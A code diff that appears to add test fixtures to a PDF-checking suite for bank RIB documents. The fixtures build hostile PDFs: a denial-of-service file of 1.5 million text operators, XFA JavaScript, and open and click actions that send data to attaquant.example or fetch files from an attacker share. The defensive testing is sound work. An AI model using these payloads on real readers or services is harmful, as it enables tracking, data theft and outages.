@@ -6,6 +6,7 @@ pypdf encrypts one; WeasyPrint renders a realistic RIB, like those banks produce
 """
 
 import io
+import zlib
 from functools import cache
 
 from PIL import Image
@@ -207,6 +208,145 @@ def embedded_file_pdf(place):
             ],
         )
     raise ValueError(place)
+
+
+def content_pdf(content, pages=1):
+    """`pages` pages that all draw the same compressed content stream (Helvetica is /F1)."""
+    builder = PdfBuilder()
+    catalog, pages_tree, font = builder.reserve(), builder.reserve(), builder.reserve()
+    builder.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>", font)
+    stream = builder.add_stream(b"/Filter /FlateDecode", zlib.compress(content, 9))
+    kids = [
+        builder.add(
+            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
+            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (pages_tree, stream, font)
+        )
+        for _page in range(pages)
+    ]
+    builder.add(
+        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % kid for kid in kids), len(kids)),
+        pages_tree,
+    )
+    builder.add(b"<< /Type /Catalog /Pages %d 0 R >>" % pages_tree, catalog)
+    return builder.build(catalog)
+
+
+def costly_pdf(repeats=1_500_000, pages=5):
+    """The attack that took a worker down: 16 Ko, one compressed content stream that shows « A »
+    `repeats` times (1.5 million operators), drawn by each of `pages` pages."""
+    return content_pdf(b"BT /F1 11 Tf 50 790 Td " + b"(A) Tj " * repeats + b"ET", pages)
+
+
+def drawn_form_pdf(operators, draws):
+    """The RIB, whose page also draws `draws` times a form of `operators` text operators: pypdf
+    parses a form again each time it is drawn."""
+    builder = PdfBuilder()
+    catalog, pages_tree, font = builder.reserve(), builder.reserve(), builder.reserve()
+    builder.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>", font)
+    form = builder.add_stream(
+        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 %d 0 R >> >>" % font,
+        b"BT /F1 11 Tf " + b"(A) Tj " * (operators - 2) + b"ET",
+    )
+    text = b"BT /F1 11 Tf 14 TL 50 790 Td " + b" ".join(_pdf_string(line) + b" '" for line in rib_lines()) + b" ET "
+    content = builder.add_stream(b"/Filter /FlateDecode", zlib.compress(text + b"/Fm1 Do " * draws))
+    page = builder.add(
+        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
+        b"/Resources << /Font << /F1 %d 0 R >> /XObject << /Fm1 %d 0 R >> >> >>" % (pages_tree, content, font, form)
+    )
+    builder.add(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page, pages_tree)
+    builder.add(b"<< /Type /Catalog /Pages %d 0 R >>" % pages_tree, catalog)
+    return builder.build(catalog)
+
+
+# An XFA form's template with a script (JavaScript; FormCalc is refused the same way).
+XFA_SCRIPT = (
+    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="rib">'
+    b'<event activity="initialize"><script contentType="application/x-javascript">'
+    b"xfa.host.messageBox('Bonjour');</script></event></subform></template>"
+)
+XFA_SUBMIT = (
+    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="rib">'
+    b'<field name="envoyer"><event activity="click"><submit format="xml" target="http://attaquant.example/"/>'
+    b"</event></field></subform></template>"
+)
+XFA_PLAIN = b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="rib"/></template>'
+
+
+def xfa_pdf(template=XFA_SCRIPT, layout="stream"):
+    """The RIB with an XFA form: one compressed stream, or an array of (name, stream) pairs."""
+    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">%s</xdp:xdp>' % template
+    if layout == "stream":
+        return pdf_with_objects(
+            catalog_extra=b"/AcroForm << /Fields [] /XFA {n} 0 R >>",
+            objects=[(b"/Filter /FlateDecode", zlib.compress(xdp))],
+        )
+    if layout == "array":
+        return pdf_with_objects(
+            catalog_extra=b"/AcroForm << /Fields [] /XFA [(preamble) {n} 0 R (template) {n+1} 0 R "
+            b"(postamble) {n+2} 0 R] >>",
+            objects=[
+                (b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'),
+                (b"/Filter /FlateDecode", zlib.compress(template)),
+                (b"", b"</xdp:xdp>"),
+            ],
+        )
+    raise ValueError(layout)
+
+
+def action_pdf(kind):
+    """The RIB with an action that sends data out or brings a file in."""
+    url = b"(http://attaquant.example/collecte)"
+    share = b"<< /FS /URL /F (file://serveur-attaquant/partage/rib.pdf) >>"
+    clicked = b"/Annots [{n} 0 R]"
+
+    def link(action):
+        return [b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /A " + action + b" >>"]
+
+    builders = {
+        # Run when the file is opened: the address learns who opens it, and when.
+        "open_action_uri": lambda: pdf_with_objects(catalog_extra=b"/OpenAction << /S /URI /URI " + url + b" >>"),
+        "page_open_uri": lambda: pdf_with_objects(page_extra=b"/AA << /O << /S /URI /URI " + url + b" >> >>"),
+        "next_uri": lambda: pdf_with_objects(
+            catalog_extra=b"/OpenAction << /S /Named /N /FirstPage /Next [{n} 0 R] >>",
+            objects=[b"<< /S /URI /URI " + url + b" >>"],
+        ),
+        # Refused even behind a click.
+        "submit_form": lambda: pdf_with_objects(
+            page_extra=clicked, objects=link(b"<< /S /SubmitForm /F " + share + b" /Flags 4 >>")
+        ),
+        "import_data": lambda: pdf_with_objects(catalog_extra=b"/OpenAction << /S /ImportData /F " + share + b" >>"),
+        "goto_remote": lambda: pdf_with_objects(
+            page_extra=clicked, objects=link(b"<< /S /GoToR /F " + share + b" /D [0 /Fit] >>")
+        ),
+        "goto_embedded": lambda: pdf_with_objects(
+            catalog_extra=b"/OpenAction << /S /GoToE /T << /R /C /N (rib.pdf) >> /D [0 /Fit] >>"
+        ),
+        "xfa_submit": lambda: xfa_pdf(XFA_SUBMIT),
+    }
+    return builders[kind]()
+
+
+def link_pdf():
+    """The RIB with the bank's web address as a link the reader clicks: allowed."""
+    return pdf_with_objects(
+        page_extra=b"/Annots [{n} 0 R]",
+        objects=[
+            b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] "
+            b"/A << /S /URI /URI (https://www.ca-sudrhonealpes.fr/) >> >>"
+        ],
+    )
+
+
+def rich_media_pdf():
+    """The RIB with a RichMedia annotation (Flash, video, 3D: its own scripts)."""
+    return pdf_with_objects(
+        page_extra=b"/Annots [{n} 0 R]",
+        objects=[
+            b"<< /Type /Annot /Subtype /RichMedia /Rect [50 500 300 700] /RichMediaContent << /Assets "
+            b"<< /Names [(video.swf) {n+1} 0 R] >> >> >>",
+            b"<< /Type /Filespec /F (video.swf) >>",
+        ],
+    )
 
 
 def encrypted_pdf():
